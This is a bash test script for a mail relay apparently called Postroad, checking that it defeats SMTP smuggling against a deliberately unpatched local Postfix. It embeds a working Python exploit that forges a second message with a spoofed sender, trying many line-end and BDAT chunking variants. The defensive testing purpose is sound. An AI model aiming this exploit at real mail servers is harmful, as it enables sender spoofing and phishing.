#!/bin/bash
# SMTP smuggling (CVE-2023-51764, -51765, -51766 and their kin): a message holds what some server takes for its end, and behind it the
# commands of a second one. Every line end that is none, before and behind a dot, goes through DATA and through BDAT, to a listener that
# refuses bare CR and LF and to one that mends them. Behind Postroad stands Debian's Postfix as it was before the fixes: it takes a bare
# LF for a line end and commands that nobody waited for. It must never get a message that was not sent as one. Needs root (Postfix does).
source "$(dirname "$0")/lib.sh"
need curl postfix openssl

build
free_ports strict mends mail
# Older versions behave so without a setting.
for old in smtpd_forbid_bare_newline smtpd_forbid_unauth_pipelining cleanup_replace_stray_cr_lf; do
	! postconf -d -h "$old" >/dev/null 2>&1 || postfix_settings+="$old = no"$'\n'
done
postfix_start "$mail"
cat >"$work/postroad.yaml" <<CONF
hostname: relay.sender.example
data_dir: $work/data
ingress:
  listeners:
    - {address: "127.0.0.1:$strict"}
    - {address: "127.0.0.1:$mends", line_ends: normalize}
  ban_after: 1000000
signer: {missing_key: pass}
delivery:
  routes: [{domains: [box.example, sender.example], via: "smtp:[127.0.0.1]:$mail", allow_private: true}]
log: {format: json, level: warn}
CONF
serve

# The same attack straight at Postfix shows that this Postfix can be fooled: otherwise the check shows nothing.
cat >"$work/attack.py" <<'PYTHON'
import itertools, socket, sys, time

ends = [b"\r\n", b"\n", b"\r", b"\r\r\n", b"\n\r", b"\r\n\0", b"\0\r\n", b"\n\n"]
second = (b"MAIL FROM:<rider@sender.example>\r\nRCPT TO:<you@box.example>\r\nDATA\r\n"
          b"From: boss@sender.example\r\nSubject: smuggled %d\r\n\r\nsmuggled\r\n.\r\nNOOP\r\n")

class Client:
    def __init__(self, port):
        self.s = socket.create_connection(("127.0.0.1", port), 60)
        self.f = self.s.makefile("rb")
        self.reply()
        self.say(b"EHLO client.sender.example\r\n")
    def say(self, text):
        self.s.sendall(text)
        return self.reply()
    def reply(self):
        while True:
            line = self.f.readline()
            if line[3:4] != b"-":
                return line
    def close(self):
        self.f.close()
        self.s.close()

def attack(port, how, before, behind, n):
    """Sends one message that holds another; returns how many replies took a message."""
    c = Client(port)
    c.say(b"MAIL FROM:<rider@sender.example>\r\n")
    c.say(b"RCPT TO:<you@box.example>\r\n")
    head = b"From: rider@sender.example\r\nSubject: outer %d\r\n\r\nouter" % n
    text = head + before + b"." + behind + second % n
    if how == "DATA":
        c.say(b"DATA\r\n")
        c.s.sendall(text + b"QUIT\r\n.\r\nQUIT\r\n")
    else:
        text += b"tail\r\n"
        cut = len(head) + len(before) # the sequence over the edge of two chunks
        c.s.sendall(b"BDAT %d\r\n" % cut + text[:cut] + b"BDAT %d LAST\r\n" % (len(text) - cut) + text[cut:] + b"QUIT\r\n")
    c.s.settimeout(60)
    rest = b""
    try:
        while True:
            got = c.s.recv(65536)
            if not got:
                break
            rest += got
    except ConnectionError: # hung up with something unread
        pass
    c.close()
    return rest.count(b" queued as ")

if sys.argv[1] == "one": # is this server fooled?
    attack(int(sys.argv[2]), "DATA", b"\n", b"\r\n", 0)
    sys.exit()
n = accepted = 0
for how, (before, behind) in itertools.product(["DATA", "BDAT"], itertools.product(ends, ends)):
    if how == "DATA" and before.endswith(b"\r\n") and behind == b"\r\n":
        continue # that is the end, and what follows are commands of a client that may send them
    if how == "DATA" and before.endswith(b"\r\n") and behind == b"\r\n\0":
        continue # likewise, with a bad command behind it
    n += 1
    got = attack(int(sys.argv[2]), how, before, behind, n)
    if got > 1:
        sys.exit("%s %r . %r: %d messages accepted" % (how, before, behind, got))
    accepted += got
print(n, accepted)
PYTHON

python "$work/attack.py" one "$mail"
within 30 mails "$work/box/you" 2
grep -lq '^Subject: smuggled 0' -r "$work/box/you/new" || die "this Postfix is not fooled by LF.CRLF: behind it nothing can be shown"
rm -f "$work"/box/you/new/*
say "straight to Postfix with its old settings: one message became two"

for name in strict mends; do
	read -r sent accepted <<<"$(python "$work/attack.py" all "${!name}")"
	[ "${sent:-0}" -gt 100 ] || die "$name: only ${sent:-0} attempts were made"
	[ "$name" = strict ] || [ "$accepted" -gt 60 ] || die "$name: only $accepted of $sent were accepted, so nothing was tried on the next hop"
	within 60 queue_is_empty
	within 60 mails "$work/box/you" "$accepted"
	sleep 1
	got=$(find "$work/box/you/new" -type f | wc -l)
	[ "$got" = "$accepted" ] || die "$name: $accepted messages were accepted and $got arrived"
	# The header of a smuggled one would have its subject above the first blank line.
	for file in "$work"/box/you/new/*; do
		[ -e "$file" ] || continue
		if sed '/^\r\?$/q' "$file" | grep -q '^Subject: smuggled'; then
			die "$name: a smuggled message arrived: $(basename "$file")"
		fi
		! LC_ALL=C grep -q $'\r' "$file" || die "$name: a bare CR left the relay"
	done
	rm -f "$work"/box/you/new/*
	say "$name: $sent attempts, $accepted accepted as one message each, $got arrived, none was smuggled"
done
stop_server
say "smuggling: no attempt made two messages of one"
